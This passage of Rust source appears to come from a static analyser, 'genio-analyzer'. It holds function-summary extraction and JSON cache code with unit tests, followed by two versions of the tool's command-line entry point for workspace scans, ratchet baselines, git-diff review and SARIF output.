        Some(init_lo + 2)
    } else if code.get(init_lo).map(|t| t.text.as_str()) == Some("[") {
        Some(init_lo)
    } else {
        None
    };
    if let Some(open) = bracket {
        if let Some(size) = alloc_size(ann, open, hi) {
            fun.allocs.push((name, size));
        }
    }
}

/// Token text of SIZE in `[ELEM; SIZE]` starting at the `[`.
fn alloc_size(ann: &Annotated, open: usize, hi: usize) -> Option<String> {
    let code = &ann.code;
    let mut depth = 1i64;
    let mut j = open + 1;
    let mut semi = None;
    while j < hi && depth > 0 {
        match code[j].text.as_str() {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" => {
                depth -= 1;
                if depth == 0 {
                    break;
                }
            }
            ";" if depth == 1 => semi = Some(j),
            _ => {}
        }
        j += 1;
    }
    let semi = semi?;
    let mut size = String::new();
    for t in &code[semi + 1..j] {
        size.push_str(&t.text);
    }
    if size.is_empty() {
        None
    } else {
        Some(size)
    }
}

/// Arguments of the call whose `(` sits at `open`. Returns the shapes
/// and the index past the closing `)`.
fn parse_args(ann: &Annotated, open: usize) -> (Vec<Arg>, usize) {
    let code = &ann.code;
    let n = code.len();
    let mut args = Vec::new();
    let mut depth = 1i64;
    let mut j = open + 1;
    let mut chunk: Vec<usize> = Vec::new();
    while j < n && depth > 0 {
        match code[j].text.as_str() {
            "(" | "[" | "{" => {
                depth += 1;
                chunk.push(j);
            }
            ")" | "]" | "}" => {
                depth -= 1;
                if depth == 0 {
                    if !chunk.is_empty() {
                        args.push(arg_shape(ann, &chunk));
                    }
                    j += 1;
                    break;
                }
                chunk.push(j);
            }
            "," if depth == 1 => {
                if !chunk.is_empty() {
                    args.push(arg_shape(ann, &chunk));
                }
                chunk.clear();
            }
            _ => chunk.push(j),
        }
        j += 1;
    }
    (args, j)
}

/// Classifies one argument chunk (indices into the code stream).
fn arg_shape(ann: &Annotated, chunk: &[usize]) -> Arg {
    let code = &ann.code;
    // Strip leading `&`, `mut`, `*`.
    let mut rest: &[usize] = chunk;
    while let Some(&first) = rest.first() {
        if matches!(code[first].text.as_str(), "&" | "mut" | "*") {
            rest = &rest[1..];
        } else {
            break;
        }
    }
    match rest {
        [only] if code[*only].kind == TokenKind::Ident
            && !crate::rules::is_keyword(&code[*only].text) =>
        {
            let ident = code[*only].text.clone();
            let guarded = ann.guarded_before(*only, &ident);
            Arg { ident: Some(ident), literal: false, guarded }
        }
        [only] if code[*only].kind == TokenKind::Num => {
            Arg { ident: None, literal: true, guarded: false }
        }
        _ => Arg::default(),
    }
}

/// Records sink uses of a format-family macro at `i` (the macro name):
/// top-level bare-identifier arguments plus `{ident}` / `{ident:?}`
/// inline captures parsed out of the leading format-string literal.
fn record_macro_sink(ann: &Annotated, fun: &mut FnSummary, i: usize) {
    let code = &ann.code;
    let line = code[i].line;
    let sink = code[i].text.clone();
    let (args, _) = parse_args(ann, i + 2);
    for a in &args {
        if let Some(id) = &a.ident {
            fun.sinks.push(SinkUse { var: id.clone(), line, sink: sink.clone() });
        }
    }
    // Inline captures in the first string-literal argument.
    let mut j = i + 3;
    let mut depth = 1i64;
    while j < code.len() && depth > 0 {
        match code[j].text.as_str() {
            "(" => depth += 1,
            ")" => depth -= 1,
            _ => {
                if code[j].kind == TokenKind::Str && depth == 1 {
                    for cap in inline_captures(&code[j].text) {
                        fun.sinks.push(SinkUse { var: cap, line, sink: sink.clone() });
                    }
                    break;
                }
            }
        }
        j += 1;
    }
}

/// `{ident}` / `{ident:?}` capture names inside a format string literal.
fn inline_captures(lit: &str) -> Vec<String> {
    let mut out = Vec::new();
    let bytes = lit.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'{' {
            if bytes.get(i + 1) == Some(&b'{') {
                i += 2; // escaped `{{`
                continue;
            }
            let mut j = i + 1;
            let mut name = String::new();
            while j < bytes.len() {
                let c = bytes[j];
                if c == b'}' || c == b':' {
                    break;
                }
                if c.is_ascii_alphanumeric() || c == b'_' {
                    name.push(c as char);
                    j += 1;
                } else {
                    name.clear();
                    break;
                }
            }
            // Positional `{}`/`{0}` captures nothing by name.
            if !name.is_empty() && !name.chars().all(|c| c.is_ascii_digit()) {
                out.push(name);
            }
            i = j + 1;
        } else {
            i += 1;
        }
    }
    out
}

impl FileSummary {
    /// JSON for the per-file cache record.
    pub fn to_json(&self) -> Value {
        let pair = |(a, b): &(String, String)| {
            Value::Arr(vec![Value::Str(a.clone()), Value::Str(b.clone())])
        };
        Value::Obj(vec![
            (
                "consts".to_string(),
                Value::Arr(
                    self.consts
                        .iter()
                        .map(|(n, v)| {
                            Value::Arr(vec![
                                Value::Str(n.clone()),
                                Value::Num(*v as f64),
                            ])
                        })
                        .collect(),
                ),
            ),
            ("types".to_string(), Value::Arr(self.types.iter().map(pair).collect())),
            (
                "structs".to_string(),
                Value::Arr(self.structs.iter().map(|s| Value::Str(s.clone())).collect()),
            ),
            (
                "functions".to_string(),
                Value::Arr(self.functions.iter().map(FnSummary::to_json).collect()),
            ),
        ])
    }

    /// Parses a cache record back.
    pub fn from_json(v: &Value) -> Result<FileSummary, String> {
        let mut s = FileSummary::default();
        for item in v.get("consts").and_then(Value::as_arr).unwrap_or(&[]) {
            if let Some(a) = item.as_arr() {
                if let (Some(n), Some(val)) =
                    (a.first().and_then(Value::as_str), a.get(1).and_then(Value::as_f64))
                {
                    s.consts.push((n.to_string(), val as u64));
                }
            }
        }
        s.types = str_pairs(v.get("types"));
        for item in v.get("structs").and_then(Value::as_arr).unwrap_or(&[]) {
            if let Some(name) = item.as_str() {
                s.structs.push(name.to_string());
            }
        }
        for item in v.get("functions").and_then(Value::as_arr).unwrap_or(&[]) {
            s.functions.push(FnSummary::from_json(item)?);
        }
        Ok(s)
    }
}

fn str_arr(strings: &[String]) -> Value {
    Value::Arr(strings.iter().map(|s| Value::Str(s.clone())).collect())
}

fn strs(v: &Value) -> Vec<String> {
    v.as_arr()
        .unwrap_or(&[])
        .iter()
        .filter_map(Value::as_str)
        .map(str::to_string)
        .collect()
}

fn str_pairs(v: Option<&Value>) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for item in v.and_then(Value::as_arr).unwrap_or(&[]) {
        if let Some(a) = item.as_arr() {
            if let (Some(x), Some(y)) =
                (a.first().and_then(Value::as_str), a.get(1).and_then(Value::as_str))
            {
                out.push((x.to_string(), y.to_string()));
            }
        }
    }
    out
}

impl FnSummary {
    fn to_json(&self) -> Value {
        let pairs = |v: &[(String, String)]| {
            Value::Arr(
                v.iter()
                    .map(|(a, b)| {
                        Value::Arr(vec![Value::Str(a.clone()), Value::Str(b.clone())])
                    })
                    .collect(),
            )
        };
        Value::Obj(vec![
            ("name".to_string(), Value::Str(self.name.clone())),
            ("line".to_string(), Value::Num(self.line as f64)),
            ("params".to_string(), pairs(&self.params)),
            ("ret".to_string(), Value::Str(self.ret.clone())),
            (
                "calls".to_string(),
                Value::Arr(self.calls.iter().map(CallSite::to_json).collect()),
            ),
            (
                "sinks".to_string(),
                Value::Arr(
                    self.sinks
                        .iter()
                        .map(|u| {
                            Value::Obj(vec![
                                ("var".to_string(), Value::Str(u.var.clone())),
                                ("line".to_string(), Value::Num(u.line as f64)),
                                ("sink".to_string(), Value::Str(u.sink.clone())),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "discards".to_string(),
                Value::Arr(
                    self.discards
                        .iter()
                        .map(|d| {
                            Value::Obj(vec![
                                ("callee".to_string(), Value::Str(d.callee.clone())),
                                ("line".to_string(), Value::Num(d.line as f64)),
                                ("kind".to_string(), Value::Str(d.kind.clone())),
                            ])
                        })
                        .collect(),
                ),
            ),
            ("local_calls".to_string(), pairs(&self.local_calls)),
            ("local_types".to_string(), pairs(&self.local_types)),
            ("allocs".to_string(), pairs(&self.allocs)),
            (
                "local_inits".to_string(),
                Value::Arr(
                    self.local_inits
                        .iter()
                        .map(|(n, reads)| {
                            Value::Arr(vec![Value::Str(n.clone()), str_arr(reads)])
                        })
                        .collect(),
                ),
            ),
            (
                "conds".to_string(),
                Value::Arr(
                    self.conds
                        .iter()
                        .map(|c| {
                            Value::Obj(vec![
                                ("line".to_string(), Value::Num(c.line as f64)),
                                ("idents".to_string(), str_arr(&c.idents)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "indexes".to_string(),
                Value::Arr(
                    self.indexes
                        .iter()
                        .map(|x| {
                            Value::Obj(vec![
                                ("line".to_string(), Value::Num(x.line as f64)),
                                ("base".to_string(), Value::Str(x.base.clone())),
                                ("idents".to_string(), str_arr(&x.idents)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "vt_ops".to_string(),
                Value::Arr(
                    self.vt_ops
                        .iter()
                        .map(|o| {
                            Value::Obj(vec![
                                ("line".to_string(), Value::Num(o.line as f64)),
                                ("op".to_string(), Value::Str(o.op.clone())),
                                ("idents".to_string(), str_arr(&o.idents)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "locks".to_string(),
                Value::Arr(
                    self.locks
                        .iter()
                        .map(|l| {
                            Value::Obj(vec![
                                ("name".to_string(), Value::Str(l.name.clone())),
                                ("line".to_string(), Value::Num(l.line as f64)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "lock_pairs".to_string(),
                Value::Arr(
                    self.lock_pairs
                        .iter()
                        .map(|p| {
                            Value::Obj(vec![
                                ("first".to_string(), Value::Str(p.first.clone())),
                                ("second".to_string(), Value::Str(p.second.clone())),
                                ("line".to_string(), Value::Num(p.line as f64)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "held_calls".to_string(),
                Value::Arr(
                    self.held_calls
                        .iter()
                        .map(|h| {
                            Value::Obj(vec![
                                ("lock".to_string(), Value::Str(h.lock.clone())),
                                ("callee".to_string(), Value::Str(h.callee.clone())),
                                ("line".to_string(), Value::Num(h.line as f64)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "atomics".to_string(),
                Value::Arr(
                    self.atomics
                        .iter()
                        .map(|a| {
                            Value::Obj(vec![
                                ("var".to_string(), Value::Str(a.var.clone())),
                                ("op".to_string(), Value::Str(a.op.clone())),
                                ("ordering".to_string(), Value::Str(a.ordering.clone())),
                                ("line".to_string(), Value::Num(a.line as f64)),
                                ("in_cond".to_string(), Value::Bool(a.in_cond)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "panics".to_string(),
                Value::Arr(
                    self.panics
                        .iter()
                        .map(|p| {
                            let mut fields = vec![
                                ("kind".to_string(), Value::Str(p.kind.clone())),
                                ("line".to_string(), Value::Num(p.line as f64)),
                            ];
                            if let Some(var) = &p.var {
                                fields.push(("var".to_string(), Value::Str(var.clone())));
                            }
                            fields.push(("guarded".to_string(), Value::Bool(p.guarded)));
                            if let Some(m) = p.masked {
                                fields.push(("masked".to_string(), Value::Num(m as f64)));
                            }
                            if let Some(id) = &p.index_ident {
                                fields.push((
                                    "index_ident".to_string(),
                                    Value::Str(id.clone()),
                                ));
                            }
                            if let Some((lo, hi)) = &p.loop_bounds {
                                fields.push((
                                    "loop_bounds".to_string(),
                                    Value::Arr(vec![
                                        Value::Str(lo.clone()),
                                        Value::Str(hi.clone()),
                                    ]),
                                ));
                            }
                            fields.push(("detail".to_string(), Value::Str(p.detail.clone())));
                            Value::Obj(fields)
                        })
                        .collect(),
                ),
            ),
        ])
    }

    fn from_json(v: &Value) -> Result<FnSummary, String> {
        let mut f = FnSummary {
            name: v
                .get("name")
                .and_then(Value::as_str)
                .ok_or("function summary missing name")?
                .to_string(),
            line: v.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
            ret: v.get("ret").and_then(Value::as_str).unwrap_or("").to_string(),
            ..FnSummary::default()
        };
        f.params = str_pairs(v.get("params"));
        f.local_calls = str_pairs(v.get("local_calls"));
        f.local_types = str_pairs(v.get("local_types"));
        f.allocs = str_pairs(v.get("allocs"));
        for item in v.get("calls").and_then(Value::as_arr).unwrap_or(&[]) {
            f.calls.push(CallSite::from_json(item)?);
        }
        for item in v.get("sinks").and_then(Value::as_arr).unwrap_or(&[]) {
            f.sinks.push(SinkUse {
                var: item
                    .get("var")
                    .and_then(Value::as_str)
                    .ok_or("sink missing var")?
                    .to_string(),
                line: item.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
                sink: item
                    .get("sink")
                    .and_then(Value::as_str)
                    .unwrap_or("")
                    .to_string(),
            });
        }
        for item in v.get("discards").and_then(Value::as_arr).unwrap_or(&[]) {
            f.discards.push(Discard {
                callee: item
                    .get("callee")
                    .and_then(Value::as_str)
                    .ok_or("discard missing callee")?
                    .to_string(),
                line: item.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
                kind: item
                    .get("kind")
                    .and_then(Value::as_str)
                    .unwrap_or("stmt")
                    .to_string(),
            });
        }
        let line_of = |item: &Value| {
            item.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32
        };
        let s_of = |item: &Value, key: &str| {
            item.get(key).and_then(Value::as_str).unwrap_or("").to_string()
        };
        for item in v.get("local_inits").and_then(Value::as_arr).unwrap_or(&[]) {
            if let Some(a) = item.as_arr() {
                if let (Some(n), Some(reads)) = (a.first().and_then(Value::as_str), a.get(1)) {
                    f.local_inits.push((n.to_string(), strs(reads)));
                }
            }
        }
        for item in v.get("conds").and_then(Value::as_arr).unwrap_or(&[]) {
            f.conds.push(CondUse {
                line: line_of(item),
                idents: strs(item.get("idents").unwrap_or(&Value::Null)),
            });
        }
        for item in v.get("indexes").and_then(Value::as_arr).unwrap_or(&[]) {
            f.indexes.push(IndexUse {
                line: line_of(item),
                base: s_of(item, "base"),
                idents: strs(item.get("idents").unwrap_or(&Value::Null)),
            });
        }
        for item in v.get("vt_ops").and_then(Value::as_arr).unwrap_or(&[]) {
            f.vt_ops.push(OpUse {
                line: line_of(item),
                op: s_of(item, "op"),
                idents: strs(item.get("idents").unwrap_or(&Value::Null)),
            });
        }
        for item in v.get("locks").and_then(Value::as_arr).unwrap_or(&[]) {
            f.locks.push(LockAcq { name: s_of(item, "name"), line: line_of(item) });
        }
        for item in v.get("lock_pairs").and_then(Value::as_arr).unwrap_or(&[]) {
            f.lock_pairs.push(LockPair {
                first: s_of(item, "first"),
                second: s_of(item, "second"),
                line: line_of(item),
            });
        }
        for item in v.get("held_calls").and_then(Value::as_arr).unwrap_or(&[]) {
            f.held_calls.push(HeldCall {
                lock: s_of(item, "lock"),
                callee: s_of(item, "callee"),
                line: line_of(item),
            });
        }
        for item in v.get("atomics").and_then(Value::as_arr).unwrap_or(&[]) {
            f.atomics.push(AtomicUse {
                var: s_of(item, "var"),
                op: s_of(item, "op"),
                ordering: s_of(item, "ordering"),
                line: line_of(item),
                in_cond: matches!(item.get("in_cond"), Some(Value::Bool(true))),
            });
        }
        for item in v.get("panics").and_then(Value::as_arr).unwrap_or(&[]) {
            let loop_bounds = item.get("loop_bounds").and_then(Value::as_arr).and_then(|a| {
                match (a.first().and_then(Value::as_str), a.get(1).and_then(Value::as_str)) {
                    (Some(lo), Some(hi)) => Some((lo.to_string(), hi.to_string())),
                    _ => None,
                }
            });
            f.panics.push(PanicSite {
                kind: s_of(item, "kind"),
                line: line_of(item),
                var: item.get("var").and_then(Value::as_str).map(str::to_string),
                guarded: matches!(item.get("guarded"), Some(Value::Bool(true))),
                masked: item.get("masked").and_then(Value::as_f64).map(|m| m as u64),
                index_ident: item
                    .get("index_ident")
                    .and_then(Value::as_str)
                    .map(str::to_string),
                loop_bounds,
                detail: s_of(item, "detail"),
            });
        }
        Ok(f)
    }
}

impl CallSite {
    fn to_json(&self) -> Value {
        let mut fields = vec![
            ("callee".to_string(), Value::Str(self.callee.clone())),
            ("line".to_string(), Value::Num(self.line as f64)),
        ];
        if let Some(recv) = &self.recv {
            fields.push(("recv".to_string(), Value::Str(recv.clone())));
        }
        fields.push((
            "args".to_string(),
                Value::Arr(
                    self.args
                        .iter()
                        .map(|a| {
                            let mut fields = Vec::new();
                            if let Some(id) = &a.ident {
                                fields.push((
                                    "ident".to_string(),
                                    Value::Str(id.clone()),
                                ));
                            }
                            fields.push(("literal".to_string(), Value::Bool(a.literal)));
                            fields.push(("guarded".to_string(), Value::Bool(a.guarded)));
                            Value::Obj(fields)
                        })
                        .collect(),
                ),
        ));
        Value::Obj(fields)
    }

    fn from_json(v: &Value) -> Result<CallSite, String> {
        let mut c = CallSite {
            callee: v
                .get("callee")
                .and_then(Value::as_str)
                .ok_or("call missing callee")?
                .to_string(),
            line: v.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
            recv: v.get("recv").and_then(Value::as_str).map(str::to_string),
            args: Vec::new(),
        };
        for item in v.get("args").and_then(Value::as_arr).unwrap_or(&[]) {
            c.args.push(Arg {
                ident: item.get("ident").and_then(Value::as_str).map(str::to_string),
                literal: matches!(item.get("literal"), Some(Value::Bool(true))),
                guarded: matches!(item.get("guarded"), Some(Value::Bool(true))),
            });
        }
        Ok(c)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::annotate;

    fn summarize_src(src: &str) -> FileSummary {
        summarize(&annotate(tokenize(src)))
    }

    #[test]
    fn fn_header_params_and_ret() {
        let s = summarize_src(
            "pub fn seal(key: &SessionKey, buf: &mut [u8]) -> Result<Tag, Error> { mix(key) }",
        );
        assert_eq!(s.functions.len(), 1);
        let f = &s.functions[0];
        assert_eq!(f.name, "seal");
        assert_eq!(f.params, vec![
            ("key".to_string(), "&SessionKey".to_string()),
            ("buf".to_string(), "&[u8]".to_string()),
        ]);
        assert_eq!(f.ret, "Result<Tag,Error>");
        assert_eq!(f.calls.len(), 1);
        assert_eq!(f.calls[0].callee, "mix");
        assert_eq!(f.calls[0].args[0].ident.as_deref(), Some("key"));
    }

    #[test]
    fn self_receiver_and_generics_are_skipped() {
        let s = summarize_src(
            "impl X { fn get<T: Clone>(&self, idx: usize) -> u8 { self.buf[idx] } }",
        );
        let f = &s.functions[0];
        assert_eq!(f.name, "get");
        assert_eq!(f.params, vec![("idx".to_string(), "usize".to_string())]);
    }

    #[test]
    fn consts_types_and_structs() {
        let s = summarize_src(
            "pub const BLOCK_LEN: usize = 16;\npub type Block = [u8; BLOCK_LEN];\npub struct SessionKey([u8; 32]);",
        );
        assert_eq!(s.consts, vec![("BLOCK_LEN".to_string(), 16)]);
        assert_eq!(s.types, vec![("Block".to_string(), "[u8;BLOCK_LEN]".to_string())]);
        assert_eq!(s.structs, vec!["SessionKey".to_string()]);
    }

    #[test]
    fn sinks_capture_bare_args_and_inline_captures() {
        let s = summarize_src(
            r#"fn log_it(key: &[u8], n: usize) { let m = format!("k={key:?} n={n}"); println!("{}", key); }"#,
        );
        let f = &s.functions[0];
        let vars: Vec<&str> = f.sinks.iter().map(|u| u.var.as_str()).collect();
        assert!(vars.contains(&"key"));
        assert!(vars.contains(&"n"));
        // `{}` positional capture names nothing; the bare `key` arg does.
        assert_eq!(vars.iter().filter(|v| **v == "key").count(), 2);
    }

    #[test]
    fn projections_are_not_sink_uses() {
        let s = summarize_src(r#"fn f(key: &[u8]) { println!("{}", key.len()); }"#);
        assert!(s.functions[0].sinks.is_empty());
    }

    #[test]
    fn discards_let_underscore_and_bare_statements() {
        let s = summarize_src(
            "fn f(tag: &[u8]) { let _ = verify_peer(tag); install_key(tag); let ok = check(tag); ok_consume(ok) }",
        );
        let f = &s.functions[0];
        let d: Vec<(&str, &str)> = f
            .discards
            .iter()
            .map(|d| (d.callee.as_str(), d.kind.as_str()))
            .collect();
        assert_eq!(d, vec![("verify_peer", "let _"), ("install_key", "stmt")]);
        // `let ok = …` binds; the tail expression is not a statement.
        assert_eq!(f.local_calls.iter().find(|(v, _)| v == "ok").map(|(_, c)| c.as_str()), Some("check"));
    }

    #[test]
    fn question_mark_is_not_a_discard() {
        let s = summarize_src("fn f(t: &[u8]) -> Result<(), E> { let _ = verify(t)?; Ok(()) }");
        assert!(s.functions[0].discards.is_empty());
    }

    #[test]
    fn allocs_record_size_text() {
        let s = summarize_src(
            "fn f(nr: usize) { let mut w = vec![[0u8; 4]; 4 * (nr + 1)]; let cols = [0u32; 4]; w[0][0] = cols[0] as u8; }",
        );
        let f = &s.functions[0];
        assert_eq!(f.allocs, vec![
            ("w".to_string(), "4*(nr+1)".to_string()),
            ("cols".to_string(), "4".to_string()),
        ]);
    }

    #[test]
    fn test_code_is_excluded() {
        let s = summarize_src(
            "fn lib() {}\n#[cfg(test)]\nmod tests { fn helper(x: u8) -> u8 { x } }",
        );
        assert_eq!(s.functions.len(), 1);
        assert_eq!(s.functions[0].name, "lib");
    }

    #[test]
    fn summary_json_roundtrip() {
        let s = summarize_src(
            r#"
            pub const N: usize = 8;
            pub type Tag = [u8; N];
            pub struct SessionKey;
            fn seal(key: &SessionKey, i: usize, buf: &[u8]) -> Result<Tag, E> {
                if i < buf.len() { let _ = audit(key); }
                let t = derive(key);
                println!("{t:?}");
                hop(key, 3);
                Err(E)
            }
            "#,
        );
        let back = FileSummary::from_json(&s.to_json()).unwrap();
        assert_eq!(s, back);
    }
}
