//! `genio-analyzer` CLI: self-scan the workspace, diff against the
//! committed ratchet baseline, fail on new findings.
//!
//! ```text
//! genio-analyzer [--root DIR] [--baseline FILE] [--json FILE]
//!                [--write-baseline] [--findings]
//! ```
//!
//! Exit codes: `0` clean (or baseline written), `1` new findings vs the
//! baseline, `2` usage or I/O error. `scripts/verify.sh` runs this
//! before the benches; `--write-baseline` is how the committed
//! `analyzer-baseline.json` shrinks after fixing sites.

#![forbid(unsafe_code)]

use std::path::PathBuf;
use std::process::ExitCode;

use genio_analyzer::baseline::{diff, Report};
use genio_analyzer::workspace;

struct Options {
    root: Option<PathBuf>,
    baseline: Option<PathBuf>,
    json: Option<PathBuf>,
    write_baseline: bool,
    list_findings: bool,
}

fn usage() -> ExitCode {
    eprintln!(
        "usage: genio-analyzer [--root DIR] [--baseline FILE] [--json FILE] \
         [--write-baseline] [--findings]"
    );
    ExitCode::from(2)
}

fn parse_args() -> Result<Options, ExitCode> {
    let mut opts = Options {
        root: None,
        baseline: None,
        json: None,
        write_baseline: false,
        list_findings: false,
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--root" => opts.root = args.next().map(PathBuf::from),
            "--baseline" => opts.baseline = args.next().map(PathBuf::from),
            "--json" => opts.json = args.next().map(PathBuf::from),
            "--write-baseline" => opts.write_baseline = true,
            "--findings" => opts.list_findings = true,
            _ => return Err(usage()),
        }
    }
    Ok(opts)
}

fn main() -> ExitCode {
    let opts = match parse_args() {
        Ok(o) => o,
        Err(code) => return code,
    };

    let root = match opts.root.or_else(|| {
        std::env::current_dir()
            .ok()
            .and_then(|d| workspace::find_root(&d))
    }) {
        Some(r) => r,
        None => {
            eprintln!("genio-analyzer: no workspace root found (use --root)");
            return ExitCode::from(2);
        }
    };

    let report = match workspace::scan(&root) {
        Ok(r) => r,
        Err(e) => {
            eprintln!("genio-analyzer: scan failed: {e}");
            return ExitCode::from(2);
        }
    };

    println!(
        "genio-analyzer: scanned {} files / {} lines under {}",
        report.files,
        report.lines,
        root.display()
    );
    for (rule, count) in report.rule_counts() {
        println!("  {}  {:<55} {:>4}", rule.id(), rule.title(), count);
    }
    println!("  total findings: {}", report.findings.len());

    if opts.list_findings {
        for f in &report.findings {
            println!(
                "  [{}] {}:{} ({}) {}",
                f.rule.id(),
                f.file,
                f.line,
                f.function,
                f.detail
            );
        }
    }

    if let Some(path) = &opts.json {
        if let Err(e) = std::fs::write(path, report.to_json().to_string()) {
            eprintln!("genio-analyzer: cannot write {}: {e}", path.display());
            return ExitCode::from(2);
        }
        println!("wrote report to {}", path.display());
    }

    let baseline_path = opts
        .baseline
        .unwrap_or_else(|| root.join("analyzer-baseline.json"));

    if opts.write_baseline {
        return match std::fs::write(&baseline_path, report.to_json().to_string()) {
            Ok(()) => {
                println!(
                    "wrote baseline ({} findings) to {}",
                    report.findings.len(),
                    baseline_path.display()
                );
                ExitCode::SUCCESS
            }
            Err(e) => {
                eprintln!(
                    "genio-analyzer: cannot write {}: {e}",
                    baseline_path.display()
                );
                ExitCode::from(2)
            }
        };
    }

    let baseline_text = match std::fs::read_to_string(&baseline_path) {
        Ok(t) => t,
        Err(e) => {
            eprintln!(
                "genio-analyzer: no baseline at {} ({e}); run with --write-baseline first",
                baseline_path.display()
            );
            return ExitCode::from(2);
        }
    };
    let baseline = match Report::from_json_text(&baseline_text) {
        Ok(b) => b,
        Err(e) => {
            eprintln!(
                "genio-analyzer: malformed baseline {}: {e}",
                baseline_path.display()
            );
            return ExitCode::from(2);
        }
    };

    let d = diff(&report.findings, &baseline.findings);
    if !d.fixed.is_empty() {
        let gone: usize = d.fixed.iter().map(|(_, n)| n).sum();
        println!(
            "ratchet: {gone} baseline finding(s) fixed — run --write-baseline to shrink the baseline"
        );
    }
    if d.passes() {
        println!(
            "ratchet OK: no findings beyond the {}-finding baseline",
            baseline.findings.len()
        );
        ExitCode::SUCCESS
    } else {
        eprintln!("ratchet FAILED: {} new finding(s) vs baseline:", d.new.len());
        for f in &d.new {
            eprintln!(
                "  [{}] {}:{} ({}) {}",
                f.rule.id(),
                f.file,
                f.line,
                f.function,
                f.detail
            );
        }
        eprintln!("fix the sites or, for accepted debt, refresh with --write-baseline");
        ExitCode::FAILURE
    }
}
