//! `genio-analyzer` CLI: self-scan the workspace, diff against the
//! committed ratchet baseline, fail on new findings.
//!
//! ```text
//! genio-analyzer [--root DIR] [--baseline FILE] [--json FILE]
//!                [--write-baseline] [--findings]
//!                [--threads N] [--cache FILE] [--no-cache]
//!                [--rules R10,R13] [--expect FILE] [--sarif FILE]
//! genio-analyzer --diff GIT_REF [--json FILE] [...]
//! genio-analyzer --explain R10
//! ```
//!
//! Exit codes: `0` clean (or baseline written), `1` new findings vs the
//! baseline (or an `--expect` mismatch, or a non-empty `--diff`), `2`
//! usage or I/O error. `scripts/verify.sh` runs this before the
//! benches; `--write-baseline` is how the committed
//! `analyzer-baseline.json` shrinks after fixing sites.
//!
//! `--rules` trims the scan to a comma-separated rule list, `--explain`
//! prints one rule's catalog entry and exits, and `--expect FILE`
//! compares the scan against a committed list of exact finding ids
//! (`RULE|file|function|detail`, line-free, order-insensitive) — the
//! verify-gate fixture self-check.
//!
//! `--diff GIT_REF` switches to review mode: report (and fail on) only
//! the findings the working tree introduced relative to `GIT_REF`,
//! skipping the ratchet baseline entirely; `--json` then writes the
//! `genio-analyzer-diff/v1` document. `--sarif FILE` writes the full
//! report as SARIF 2.1.0 for code-review tooling.
//!
//! The incremental cache defaults to
//! `<root>/target/genio-analyzer/cache.json`; `--no-cache` forces a
//! full rescan. Cache traffic and per-stage timings are printed to
//! stdout but never written into the report, so cached and uncached
//! runs emit byte-identical JSON.

#![forbid(unsafe_code)]

use std::path::PathBuf;
use std::process::ExitCode;

use genio_analyzer::baseline::{diff as ratchet_diff, Key, Report};
use genio_analyzer::diff;
use genio_analyzer::rules::Rule;
use genio_analyzer::workspace::{self, ScanOptions};
use genio_telemetry::Telemetry;

struct Options {
    root: Option<PathBuf>,
    baseline: Option<PathBuf>,
    json: Option<PathBuf>,
    write_baseline: bool,
    list_findings: bool,
    threads: usize,
    cache: Option<PathBuf>,
    no_cache: bool,
    rules: Option<Vec<Rule>>,
    expect: Option<PathBuf>,
    diff: Option<String>,
    sarif: Option<PathBuf>,
}

fn usage() -> ExitCode {
    eprintln!(
        "usage: genio-analyzer [--root DIR] [--baseline FILE] [--json FILE] \
         [--write-baseline] [--findings] [--threads N] [--cache FILE] [--no-cache] \
         [--rules R10,R13] [--expect FILE] [--diff GIT_REF] [--sarif FILE] \
         | --explain RULE"
    );
    ExitCode::from(2)
}

fn parse_rules(list: &str) -> Option<Vec<Rule>> {
    let rules: Vec<Rule> = list
        .split(',')
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .map(Rule::from_id)
        .collect::<Option<Vec<_>>>()?;
    if rules.is_empty() {
        None
    } else {
        Some(rules)
    }
}

fn explain(id: &str) -> ExitCode {
    let Some(rule) = Rule::from_id(id) else {
        eprintln!(
            "genio-analyzer: unknown rule {id:?} (known: {})",
            Rule::ALL.map(|r| r.id()).join(", ")
        );
        return ExitCode::from(2);
    };
    println!("{} — {}", rule.id(), rule.title());
    println!();
    println!("{}", rule.explain());
    ExitCode::SUCCESS
}

fn parse_args() -> Result<Options, ExitCode> {
    let mut opts = Options {
        root: None,
        baseline: None,
        json: None,
        write_baseline: false,
        list_findings: false,
        threads: 0,
        cache: None,
        no_cache: false,
        rules: None,
        expect: None,
        diff: None,
        sarif: None,
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--root" => opts.root = args.next().map(PathBuf::from),
            "--baseline" => opts.baseline = args.next().map(PathBuf::from),
            "--json" => opts.json = args.next().map(PathBuf::from),
            "--write-baseline" => opts.write_baseline = true,
            "--findings" => opts.list_findings = true,
            "--threads" => {
                opts.threads = match args.next().and_then(|n| n.parse().ok()) {
                    Some(n) => n,
                    None => return Err(usage()),
                }
            }
            "--cache" => opts.cache = args.next().map(PathBuf::from),
            "--no-cache" => opts.no_cache = true,
            "--rules" => {
                opts.rules = match args.next().as_deref().and_then(parse_rules) {
                    Some(rs) => Some(rs),
                    None => return Err(usage()),
                }
            }
            "--explain" => {
                return Err(match args.next() {
                    Some(id) => explain(&id),
                    None => usage(),
                })
            }
            "--expect" => opts.expect = args.next().map(PathBuf::from),
            "--diff" => {
                opts.diff = match args.next() {
                    Some(git_ref) => Some(git_ref),
                    None => return Err(usage()),
                }
            }
            "--sarif" => opts.sarif = args.next().map(PathBuf::from),
            _ => return Err(usage()),
        }
    }
    Ok(opts)
}

/// Compares the scan against a committed `RULE|file|function|detail`
